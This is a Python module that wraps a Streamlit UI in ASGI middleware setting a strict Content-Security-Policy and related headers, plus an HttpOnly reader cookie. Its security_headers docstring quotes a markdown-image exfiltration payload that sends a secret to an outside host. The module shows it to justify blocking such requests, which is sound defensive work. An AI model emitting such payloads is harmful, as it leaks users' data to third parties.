"""The UI as an ASGI app: Streamlit behind headers that let the browser load and send nothing beyond this origin."""

import base64
import hashlib
import logging
import re
import uuid
from collections.abc import Mapping
from pathlib import Path

import streamlit as st
from starlette.datastructures import MutableHeaders
from starlette.middleware import Middleware
from starlette.requests import Request
from starlette.types import ASGIApp, Message, Receive, Scope, Send
from streamlit import config

from walkdown_ui.defect import show_defect
from walkdown_ui.kept import READER_COOKIE
from walkdown_ui.launch import DEFAULT_HOST, DEFAULT_SERVER_URL, streamlit_options

_LOG = logging.getLogger(__name__)
SCRIPT = Path(__file__).parent / "entry" / "main.py"
_INDEX = Path(st.__file__).parent / "static" / "index.html"
_INLINE_SCRIPT = re.compile(r"<script>(.*?)</script>", re.DOTALL)


def _script_hashes(page: str) -> list[str]:
    """CSP sources of the inline scripts of Streamlit's own page; no other inline script may run."""
    digests = (hashlib.sha256(m[1].encode()).digest() for m in _INLINE_SCRIPT.finditer(page))
    return [f"'sha256-{base64.b64encode(digest).decode()}'" for digest in digests]


def security_headers(page: str) -> Mapping[str, str]:
    """Headers of every response, for Streamlit's index page `page`.

    Plain Streamlit makes the browser fetch `![x](http://host/?d=secret)` from any text; `img-src` and its kin stop
    that whatever a page shows.
    """
    policy = {
        "default-src": "'self'",
        "script-src": " ".join(("'self'", *_script_hashes(page))),
        # Streamlit's styled components write style elements at run time.
        "style-src": "'self' 'unsafe-inline'",
        "img-src": "'self' data: blob:",
        "font-src": "'self' data:",
        "connect-src": "'self'",
        "worker-src": "'self' blob:",
        "media-src": "'none'",
        "object-src": "'none'",
        "frame-src": "'none'",
        "frame-ancestors": "'none'",
        "form-action": "'none'",
        "base-uri": "'none'",
    }
    return {
        "Content-Security-Policy": "; ".join(f"{name} {value}" for name, value in policy.items()),
        "Cross-Origin-Opener-Policy": "same-origin",
        "Permissions-Policy": "camera=(), geolocation=(), microphone=(), payment=(), usb=()",
        "Referrer-Policy": "no-referrer",
        "X-Content-Type-Options": "nosniff",
        "X-DNS-Prefetch-Control": "off",
        "X-Frame-Options": "DENY",
    }


_COOKIE = "Path=/; Max-Age=34560000; HttpOnly; SameSite=Lax"
"""400 days, the longest that browsers take. No script reads it, and no page elsewhere sends it along."""


class SecurityHeaders:
    """Middleware that sets headers on every HTTP response, and gives a browser the cookie it is known by."""

    def __init__(self, app: ASGIApp, headers: Mapping[str, str]) -> None:
        self._app = app
        self._headers = headers

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        """ASGI interface."""
        known = scope["type"] == "http" and READER_COOKIE in Request(scope).cookies

        async def send_with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                headers = MutableHeaders(scope=message)
                headers.update(self._headers)
                if not known and headers.get("content-type", "").startswith("text/html"):
                    headers.append("Set-Cookie", f"{READER_COOKIE}={uuid.uuid4().hex}; {_COOKIE}")
            await send(message)

        await self._app(scope, receive, send_with_headers if scope["type"] == "http" else send)


def _on_script_error(error: Exception) -> bool:
    """Log a defect of a page and show one sentence instead of Streamlit's box."""
    _LOG.error("a page failed", exc_info=error)
    show_defect()
    return True


def create_app(server_url: str = DEFAULT_SERVER_URL, host: str = DEFAULT_HOST) -> st.App:
    """The ASGI app, talking to the Walkdown server at `server_url`; `host` is the address it will listen on."""
    for name, value in streamlit_options(host).items():
        config.set_option(name, value)
    headers = security_headers(_INDEX.read_text(encoding="utf-8"))
    return st.App(
        SCRIPT,
        secrets={"server_url": server_url},
        on_script_error=_on_script_error,
        middleware=[Middleware(SecurityHeaders, headers=headers)],
    )
